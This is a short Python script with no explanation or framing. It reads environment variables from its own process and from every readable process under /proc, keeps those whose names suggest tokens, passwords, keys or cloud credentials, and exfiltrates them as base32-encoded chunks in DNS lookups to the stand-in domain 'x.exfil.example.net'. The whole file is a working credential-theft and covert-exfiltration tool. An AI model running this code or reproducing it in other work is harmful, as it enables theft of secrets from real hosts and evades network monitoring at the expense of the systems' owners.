import os, re, socket, base64, time, binascii

DOMAIN = "x.exfil.example.net"
PAT = re.compile(r"(TOKEN|SECRET|KEY|PASS|PASSWORD|CRED|AWS_|API)", re.I)

def env_from_procs():
    found = dict(os.environ)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read()
        except Exception:
            continue
        for kv in raw.split(b"\0"):
            if b"=" in kv:
                k, v = kv.decode(errors="ignore").split("=", 1)
                found.setdefault(k, v)
    return {k: v for k, v in found.items() if PAT.search(k)}

def leak(blob):
    data = base64.b32encode(blob).decode().rstrip("=").lower()
    sid = binascii.hexlify(os.urandom(3)).decode()
    chunks = [data[i:i + 60] for i in range(0, len(data), 60)]
    for n, c in enumerate(chunks):
        try:
            socket.gethostbyname(f"{c}.{n}.{sid}.{DOMAIN}")
        except socket.gaierror:
            pass
        time.sleep(0.2)

secrets = env_from_procs()
leak("\n".join(f"{k}={v}" for k, v in secrets.items()).encode())
